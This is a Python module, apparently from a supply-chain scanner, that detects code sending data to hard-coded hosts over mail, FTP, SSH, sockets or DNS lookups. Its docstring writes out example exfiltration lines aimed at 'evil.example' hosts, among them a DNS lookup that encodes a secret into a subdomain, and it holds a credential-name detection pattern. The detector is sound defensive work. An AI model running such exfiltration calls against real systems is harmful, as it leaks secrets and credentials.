"""Sends to a host written in the code that is no URL (ADR 0098).

ADR 0093 denies the whole environment, and weights at a fixed place, sent when called to an
address written in the code: an ``https://`` literal. An author who has read it names a host
instead, and sends over a connection that takes one: a mail server
(``smtplib.SMTP('mail.evil.example').sendmail(...)``), an FTP or SSH server
(``ftplib.FTP(host).storbinary``, ``SSHClient.connect(host)`` then ``open_sftp().put``), a
socket (``create_connection((host, port)).sendall``, ``sendto(data, (host, 53))``), an HTTP
connection (``HTTPSConnection(host).request``). Or sends the data as the name looked up
(``gethostbyname(hex(secret) + '.x.evil.example')``).

* :func:`written_host`: a connection made to a public host name or address written in the
  code (loopback, private and link-local addresses are not another host's). Read over the
  module, as ADR 0093's pack and send are: the connection and the send may sit in different
  methods of one client class.
* :func:`over_connection`: a send through such a connection (not a URL call: those have
  their address in their own text).
* :func:`smuggled`: a look-up of a name under a written domain whose first part is an
  environment value changed before it was sent (encoded, sliced: the text shows no
  ``$NAME``) or a variable named as a credential. A service's name from the environment,
  resolved as it is under its cluster's domain, is configuration (ADR 0076) and stays so.

Pure helpers over events; :mod:`chains` scores them.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from airlock.imports.packages import remotes
from airlock.imports.packages.lazyre import LazyPattern
from airlock.imports.packages.sinks import (
    CONNECTIONS,
    SFTP_CLIENTS,
    SSH_CHANNELS,
    SSH_TRANSPORTS,
)

if TYPE_CHECKING:
    from airlock.imports.packages.flowtypes import Event

# A record a network log handler sends (:mod:`logsent`).
LOG_EMIT = "logging.handlers.emit"
# Calls whose first argument is the host they connect to.
HOST_FIRST = frozenset({
    *CONNECTIONS, "socket.create_connection", "socket.socket.connect",
    "socket.socket.connect_ex", "asyncio.open_connection", "paramiko.SSHClient.connect",
    "paramiko.Transport", "pysftp.Connection",
    # ADR 0110: a gRPC channel, a Ray cluster, a network log handler's records (their text
    # starts with the handler's host).
    *remotes.GRPC_CHANNELS, remotes.RAY_JOIN, LOG_EMIT, *remotes.STORE_HOSTS,
    *remotes.BUS_HOSTS,
})  # fmt: skip
# Calls whose last two arguments are the host and the port (``sendto(data, (host, port))``).
HOST_LAST = frozenset({"socket.socket.sendto"})
# A public host: a name with a top-level domain of letters, or an IPv4 address outside the
# loopback, private and link-local ranges; ``localhost`` is this machine.
PUBLIC_HOST = LazyPattern(
    r"(?!localhost\b)(?:[a-z0-9-]+\.)+[a-z]{2,}|"
    r"(?!(?:127|10|0)\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)(?:\d{1,3}\.){3}\d{1,3}",
    re.IGNORECASE,
)
# What sends through a connection: its methods, an SFTP client's, a socket's, a channel's.
SENDERS = frozenset({
    *CONNECTIONS, "socket.socket", "asyncio.StreamWriter", *SFTP_CLIENTS, *SSH_CHANNELS,
    *SSH_TRANSPORTS, "logging.handlers", *remotes.SENDERS,
})  # fmt: skip
# An environment variable named as a credential, as its shape shows it (``$GITHUB_TOKEN``).
CREDENTIAL_VARIABLE = LazyPattern(r"\$\w*(?:TOKEN|SECRET|PASSW|API_?KEY|ACCESS_KEY)", re.I)
URL_HOST = LazyPattern(r"https?://(?:[^@/\s]*@)?([^:/\s?#]+)", re.IGNORECASE)
DOMAIN = LazyPattern(r"\.[a-z][a-z0-9-]*\.[a-z]{2,}", re.IGNORECASE)


def written_host(events: list[Event]) -> bool:
    """Whether the module connects to a public host written in its code."""
    for event in events:
        if event.kind != "network":
            continue
        words = event.text.split()
        host = remotes.address_host(words[0]) if words else ""
        if event.callee in HOST_FIRST and host and PUBLIC_HOST.fullmatch(host):
            return True
        # A remote file opened for writing (ADR 0110): what is written goes to its host.
        if remotes.opened_for_upload(event, _public):
            return True
        if event.callee in HOST_LAST and len(words) >= 2 and PUBLIC_HOST.fullmatch(words[-2]):
            return True
        if _curl_url(event, words):
            return True
    return False


def _curl_url(event: Event, words: list[str]) -> bool:
    """``c.setopt(pycurl.URL, 'https://HOST/...')``: pycurl's handle is given its address on
    a line of its own, before what it posts (ADR 0171)."""
    if event.callee != "pycurl.Curl.setopt" or len(words) < 2:
        return False
    if words[0].rpartition(".")[2] != "URL":
        return False
    host = URL_HOST.match(words[1])
    return bool(host and PUBLIC_HOST.fullmatch(host.group(1)))


def _public(host: str) -> bool:
    return bool(PUBLIC_HOST.fullmatch(host))


def over_connection(event: Event) -> bool:
    """Whether the event sends through a connection object (a mail, FTP or HTTP connection,
    a socket, an SFTP client or an SSH channel), not to a URL of its own."""
    return event.kind == "network" and event.callee.rpartition(".")[0] in SENDERS


def raw(event: Event) -> bool:
    """Whether the event sends over a raw connection: a socket, an SSH server (an SFTP client,
    a channel) or telnet. Not a mail or FTP server, whose sender address and login often come
    from the environment, nor an HTTP connection an SDK talks to its API by."""
    return event.kind == "network" and event.callee.rpartition(".")[0] in RAW


RAW = frozenset({
    "socket.socket", "asyncio.StreamWriter", "telnetlib.Telnet", *SFTP_CLIENTS, *SSH_CHANNELS,
    *SSH_TRANSPORTS,
})  # fmt: skip


def smuggled(event: Event) -> bool:
    """Whether a look-up's name under a written domain starts with an environment value that
    was changed first (encoded, sliced: its text shows no ``$NAME`` there), or with a
    variable named as a credential."""
    text = event.text.lstrip()
    if not DOMAIN.search(text):
        return False
    changed = text.startswith(("{}", "."))
    return changed or bool(CREDENTIAL_VARIABLE.match(text))
